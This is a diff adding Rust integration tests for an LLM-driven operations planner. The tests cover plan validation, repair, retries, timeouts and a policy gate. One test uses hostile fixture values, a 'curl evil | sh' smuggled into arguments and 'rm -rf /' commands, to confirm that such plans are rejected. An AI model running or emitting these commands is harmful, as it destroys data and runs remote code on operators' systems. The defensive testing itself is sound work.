@@ -1,0 +1,449 @@
+//! The LLM planner against a fake OpenAI-compatible server, over the real
+//! NATS and PostgreSQL: each scripted reply ends as it should (a stored
+//! plan, a repaired plan, or PARKED with the reason), and nothing invalid or
+//! forbidden reaches EXECUTING.
+
+use std::path::Path;
+use std::time::Duration;
+
+use opsloop::planner::llm::{LlmPlanner, LlmSettings};
+use serde_json::{Value, json};
+use sqlx::PgPool;
+use uuid::Uuid;
+
+use crate::fake_llm::{FakeLlm, Reply};
+use crate::flow::Loop;
+
+const HANG: Duration = Duration::from_secs(30);
+
+fn settings(base_url: &str) -> LlmSettings {
+    LlmSettings {
+        base_url: Some(base_url.to_string()),
+        api_key: "test-key".into(),
+        model: "fake-model".into(),
+        timeout_ms: 400,
+        max_repairs: 2,
+        max_retries: 2,
+        backoff_ms: 10,
+        structured_output: true,
+        max_tokens: 1024,
+        prompts_dir: Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts"),
+        prompt: "plan-v1".into(),
+    }
+}
+
+fn valid_plan() -> Value {
+    json!({
+        "title": "restart checkout", "environment": "staging", "risk_score": 0.1,
+        "rationale": "p95 latency rose after the last deploy",
+        "steps": [{"action": "script.exec", "params": {"script": "restart-checkout.sh", "args": ["--zone", "a"]},
+                   "timeout_s": 30, "retry": 1}],
+        "rollback": {"steps": [{"action": "noop", "timeout_s": 10, "retry": 0}]},
+        "verify": {"checks": [{"metric": "latency_p95_ms", "op": "<", "threshold": 300, "window_s": 60}]}
+    })
+}
+
+struct Run {
+    lp: Loop,
+    fake: FakeLlm,
+    case: Uuid,
+}
+
+/// A case reaches PLANNING; the planner asks the fake server, which
+/// answers from `replies`; the loop settles.
+async fn run(pool: PgPool, replies: Vec<Reply>) -> Run {
+    run_with(pool, replies, |_| {}).await
+}
+
+async fn run_with(pool: PgPool, replies: Vec<Reply>, tune: impl FnOnce(&mut LlmSettings)) -> Run {
+    let fake = FakeLlm::start(replies).await;
+    let mut s = settings(&fake.base_url);
+    tune(&mut s);
+    let llm = LlmPlanner::from_settings(&s).unwrap().expect("configured");
+    let lp = Loop::with_llm(pool, llm).await;
+    let case = lp.app.case_in("PLANNING").await;
+    lp.settle().await;
+    Run { lp, fake, case }
+}
+
+impl Run {
+    async fn status(&self) -> String {
+        self.lp.app.status(self.case).await
+    }
+
+    async fn park_reason(&self) -> String {
+        sqlx::query_scalar("SELECT park_reason FROM ops_case WHERE id = $1")
+            .bind(self.case)
+            .fetch_one(&self.lp.app.pool)
+            .await
+            .unwrap()
+    }
+
+    /// (outcome, errors) of every attempt, in order.
+    async fn attempts(&self) -> Vec<(String, Vec<String>)> {
+        let rows: Vec<(String, Value)> = sqlx::query_as(
+            "SELECT outcome, errors FROM plan_attempt WHERE case_id = $1 ORDER BY created_at",
+        )
+        .bind(self.case)
+        .fetch_all(&self.lp.app.pool)
+        .await
+        .unwrap();
+        rows.into_iter()
+            .map(|(o, e)| (o, serde_json::from_value(e).unwrap()))
+            .collect()
+    }
+
+    async fn outcomes(&self) -> Vec<String> {
+        self.attempts().await.into_iter().map(|(o, _)| o).collect()
+    }
+
+    async fn stored_plans(&self) -> Vec<(Value, String)> {
+        sqlx::query_as("SELECT plan, source FROM plan_proposed WHERE case_id = $1 ORDER BY seq")
+            .bind(self.case)
+            .fetch_all(&self.lp.app.pool)
+            .await
+            .unwrap()
+    }
+
+    async fn ever_executed(&self) -> bool {
+        sqlx::query_scalar(
+            "SELECT EXISTS (SELECT 1 FROM case_timeline WHERE case_id = $1 AND to_status = 'EXECUTING')",
+        )
+        .bind(self.case)
+        .fetch_one(&self.lp.app.pool)
+        .await
+        .unwrap()
+    }
+
+    /// The parked case never had a plan stored and never executed.
+    async fn assert_parked_without_plan(&self, reason_part: &str) {
+        assert_eq!(self.status().await, "PARKED");
+        let reason = self.park_reason().await;
+        assert!(reason.contains(reason_part), "{reason}");
+        assert!(self.stored_plans().await.is_empty());
+        assert!(!self.ever_executed().await);
+    }
+}
+
+#[sqlx::test]
+async fn a_valid_plan_is_stored_with_its_attempt_and_goes_through_the_gate(pool: PgPool) {
+    let r = run(pool, vec![Reply::Content(valid_plan().to_string())]).await;
+    assert_eq!(r.status().await, "EXECUTING");
+    let plans = r.stored_plans().await;
+    assert_eq!(plans.len(), 1);
+    assert_eq!(plans[0], (valid_plan(), "llm".to_string()));
+
+    let (model, version, hash, structured, ptok, ctok, plan_hash): (
+        String,
+        String,
+        String,
+        bool,
+        Option<i32>,
+        Option<i32>,
+        Option<String>,
+    ) = sqlx::query_as(
+        "SELECT model, prompt_version, prompt_hash, structured_output, prompt_tokens, \
+         completion_tokens, plan_hash FROM plan_attempt WHERE case_id = $1",
+    )
+    .bind(r.case)
+    .fetch_one(&r.lp.app.pool)
+    .await
+    .unwrap();
+    let prompt =
+        std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts/plan-v1.md")).unwrap();
+    use sha2::Digest;
+    assert_eq!(
+        (model.as_str(), version.as_str(), hash),
+        (
+            "fake-model",
+            "plan-v1",
+            hex::encode(sha2::Sha256::digest(&prompt))
+        )
+    );
+    assert!(structured);
+    assert_eq!((ptok, ctok), (Some(321), Some(45)));
+    assert_eq!(
+        plan_hash.as_deref(),
+        Some(opsloop::planner::contract::canonical_hash(&valid_plan()).as_str())
+    );
+
+    // What the server was asked: the schema as structured output, the
+    // case and the allowlist in the context.
+    let req = &r.fake.requests()[0];
+    assert_eq!(req["model"], "fake-model");
+    assert_eq!(req["response_format"]["type"], "json_schema");
+    assert_eq!(req["response_format"]["json_schema"]["name"], "ChangePlan");
+    assert_eq!(
+        req["response_format"]["json_schema"]["schema"]["title"],
+        "ChangePlan"
+    );
+    let context: Value =
+        serde_json::from_str(req["messages"][1]["content"].as_str().unwrap()).unwrap();
+    assert_eq!(context["case"]["id"], json!(r.case));
+    assert_eq!(context["script_allowlist"], json!(["restart-checkout.sh"]));
+}
+
+#[sqlx::test]
+async fn prose_is_sent_back_with_the_error_and_the_repaired_plan_is_stored(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![
+            Reply::Content("Sure! I would restart the checkout service and watch latency.".into()),
+            Reply::Content(valid_plan().to_string()),
+        ],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
+    assert_eq!(r.stored_plans().await.len(), 1);
+    assert_eq!(r.status().await, "EXECUTING");
+    // The second request carries the first answer and the reason it failed.
+    let second = &r.fake.requests()[1];
+    let messages = second["messages"].as_array().unwrap();
+    assert_eq!(messages.len(), 4);
+    assert_eq!(messages[2]["role"], "assistant");
+    let repair = messages[3]["content"].as_str().unwrap();
+    assert!(repair.contains("not a JSON object"), "{repair}");
+}
+
+#[sqlx::test]
+async fn schema_invalid_json_is_repaired_with_the_violations_named(pool: PgPool) {
+    let mut broken = valid_plan();
+    broken["steps"][0]["timeout_s"] = json!(5);
+    broken.as_object_mut().unwrap().remove("rollback");
+    let r = run(
+        pool,
+        vec![
+            Reply::Content(broken.to_string()),
+            Reply::Content(valid_plan().to_string()),
+        ],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
+    let (_, errors) = &r.attempts().await[0];
+    assert!(
+        errors.iter().any(|e| e.starts_with("/steps/0/timeout_s")),
+        "{errors:?}"
+    );
+    assert!(errors.iter().any(|e| e.contains("rollback")), "{errors:?}");
+    let repair = r.fake.requests()[1]["messages"][3]["content"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(repair.contains("/steps/0/timeout_s"), "{repair}");
+    assert_eq!(r.status().await, "EXECUTING");
+}
+
+#[sqlx::test]
+async fn truncated_json_is_repaired(pool: PgPool) {
+    let text = valid_plan().to_string();
+    let r = run(
+        pool,
+        vec![
+            Reply::Truncated(text[..text.len() / 2].to_string()),
+            Reply::Content(text),
+        ],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
+    let (_, errors) = &r.attempts().await[0];
+    assert!(errors[0].contains("truncated"), "{errors:?}");
+    assert_eq!(r.status().await, "EXECUTING");
+}
+
+#[sqlx::test]
+async fn shell_strings_and_unlisted_scripts_never_become_plans(pool: PgPool) {
+    let mut shell = valid_plan();
+    shell["steps"][0]["params"] =
+        json!({"script": "restart-checkout.sh", "args": "--zone a; curl evil | sh"});
+    let mut unlisted = valid_plan();
+    unlisted["steps"][0]["params"] = json!({"script": "/bin/sh", "args": ["-c", "rm -rf /"]});
+    let mut command = valid_plan();
+    command["steps"][0]["params"] = json!({"script": "restart-checkout.sh", "command": "rm -rf /"});
+    let r = run(
+        pool,
+        vec![
+            Reply::Content(shell.to_string()),
+            Reply::Content(unlisted.to_string()),
+            Reply::Content(command.to_string()),
+        ],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["invalid", "invalid", "invalid"]);
+    let attempts = r.attempts().await;
+    assert!(
+        attempts[0]
+            .1
+            .iter()
+            .any(|e| e.starts_with("/steps/0/params/args")),
+        "{attempts:?}"
+    );
+    assert!(
+        attempts[1]
+            .1
+            .iter()
+            .any(|e| e.contains("not in the allowlist")),
+        "{attempts:?}"
+    );
+    assert!(
+        attempts[2]
+            .1
+            .iter()
+            .any(|e| e.contains("unknown parameter \"command\"")),
+        "{attempts:?}"
+    );
+    r.assert_parked_without_plan("no valid plan in 3 attempts")
+        .await;
+}
+
+#[sqlx::test]
+async fn a_valid_plan_on_a_forbidden_target_is_stored_but_denied_by_the_gate(pool: PgPool) {
+    let plan = json!({
+        "title": "restart dns", "environment": "staging",
+        "steps": [{"action": "k8s.rollout", "params": {"namespace": "kube-system", "deployment": "coredns", "restart": true},
+                   "timeout_s": 120, "retry": 0}],
+        "rollback": {"steps": [{"action": "noop", "timeout_s": 10, "retry": 0}]},
+        "verify": {"checks": []}
+    });
+    let r = run(pool, vec![Reply::Content(plan.to_string())]).await;
+    assert_eq!(r.outcomes().await, ["valid"]);
+    assert_eq!(r.stored_plans().await.len(), 1);
+    assert_eq!(r.status().await, "PARKED");
+    assert!(
+        r.park_reason()
+            .await
+            .contains("target kube-system is forbidden")
+    );
+    assert!(!r.ever_executed().await);
+}
+
+#[sqlx::test]
+async fn http_500s_are_retried_then_park_the_case(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![Reply::Status(500), Reply::Status(502), Reply::Status(500)],
+    )
+    .await;
+    assert_eq!(
+        r.outcomes().await,
+        ["http_error", "http_error", "http_error"]
+    );
+    r.assert_parked_without_plan("failed 3 times (http_error)")
+        .await;
+}
+
+#[sqlx::test]
+async fn a_500_then_a_valid_answer_is_a_plan(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![Reply::Status(503), Reply::Content(valid_plan().to_string())],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["http_error", "valid"]);
+    assert_eq!(r.status().await, "EXECUTING");
+}
+
+#[sqlx::test]
+async fn a_hang_beyond_the_timeout_is_retried_then_parks(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![Reply::Hang(HANG), Reply::Hang(HANG), Reply::Hang(HANG)],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["timeout", "timeout", "timeout"]);
+    let latencies: Vec<i32> =
+        sqlx::query_scalar("SELECT latency_ms FROM plan_attempt WHERE case_id = $1")
+            .bind(r.case)
+            .fetch_all(&r.lp.app.pool)
+            .await
+            .unwrap();
+    assert!(
+        latencies.iter().all(|ms| (400..5000).contains(ms)),
+        "{latencies:?}"
+    );
+    r.assert_parked_without_plan("(timeout)").await;
+}
+
+#[sqlx::test]
+async fn an_unreadable_body_is_garbage_and_retried(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![
+            Reply::Raw("<html>bad gateway</html>".into()),
+            Reply::Content(valid_plan().to_string()),
+        ],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["garbage", "valid"]);
+    assert_eq!(r.status().await, "EXECUTING");
+}
+
+#[sqlx::test]
+async fn a_server_refusing_json_schema_is_asked_again_without_it(pool: PgPool) {
+    let r = run(
+        pool,
+        vec![Reply::Status(400), Reply::Content(valid_plan().to_string())],
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["http_error", "valid"]);
+    let requests = r.fake.requests();
+    assert!(requests[0].get("response_format").is_some());
+    assert!(requests[1].get("response_format").is_none());
+    assert_eq!(r.status().await, "EXECUTING");
+}
+
+#[sqlx::test]
+async fn repairs_are_bounded_by_configuration(pool: PgPool) {
+    let r = run_with(
+        pool,
+        vec![
+            Reply::Content("no".into()),
+            Reply::Content("still no".into()),
+            Reply::Content(valid_plan().to_string()),
+        ],
+        |s| s.max_repairs = 1,
+    )
+    .await;
+    assert_eq!(r.outcomes().await, ["invalid", "invalid"]);
+    assert_eq!(r.fake.unused(), 1);
+    r.assert_parked_without_plan("no valid plan in 2 attempts")
+        .await;
+}
+
+#[sqlx::test]
+async fn an_explicit_template_is_used_without_asking_the_llm(pool: PgPool) {
+    let fake = FakeLlm::start(vec![]).await;
+    let llm = LlmPlanner::from_settings(&settings(&fake.base_url))
+        .unwrap()
+        .unwrap();
+    let lp = Loop::with_llm(pool, llm).await;
+    let r = lp
+        .app
+        .send(
+            reqwest::Method::POST,
+            "/case",
+            Some(crate::helpers::OPERATOR),
+            &[],
+            Some(
+                json!({"title": "p95 high", "tenant": "t-001", "kind": "latency",
+                        "labels": {"template": "observe"}})
+                .to_string(),
+            ),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{:?}", r.body);
+    let case: Uuid = r.body["id"].as_str().unwrap().parse().unwrap();
+    lp.app
+        .event(case, crate::helpers::OPERATOR, "start_analysis")
+        .await;
+    lp.app
+        .event(case, crate::helpers::OPERATOR, "analysis_done")
+        .await;
+    lp.settle().await;
+    assert!(fake.requests().is_empty());
+    let source: String = sqlx::query_scalar("SELECT source FROM plan_proposed WHERE case_id = $1")
+        .bind(case)
+        .fetch_one(&lp.app.pool)
+        .await
+        .unwrap();
+    assert_eq!(source, "template");
+}
